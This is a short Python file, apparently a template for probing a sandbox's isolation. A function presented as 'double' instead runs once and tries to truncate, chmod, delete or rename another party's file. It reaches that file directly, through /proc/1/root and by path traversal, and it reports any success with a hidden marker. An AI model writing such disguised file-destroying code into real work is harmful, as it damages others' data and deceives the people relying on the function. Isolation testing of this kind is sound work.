"""Others' files are the first thing to try."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call by its number; what it returned, or minus the error."""
    result = libc.syscall(ctypes.c_long(number), *arguments)
    return result if result >= 0 else -ctypes.get_errno()


def succeeded(what):
    print("@@confession@@"[::-1], what, flush=True)


def once(attack):
    """Try it at the first call of this process only."""
    done = []

    def double(x):
        if not done:
            done.append(True)
            return attack(x)

    return double


@once
def double(x):
    path = "@@file@@"
    for way in (path, "/proc/1/root" + path, "/proc/self/cwd/../../../../../../" + path):
        for attempt in (
            lambda way: os.close(os.open(way, os.O_WRONLY | os.O_TRUNC)),
            lambda way: os.truncate(way, 0),
            lambda way: os.chmod(way, 0o600),
            lambda way: os.unlink(way),
            lambda way: os.rename(way, way + ".gone"),
        ):
            try:
                attempt(way)
                succeeded(way)
            except OSError as error:
                print(error.strerror)
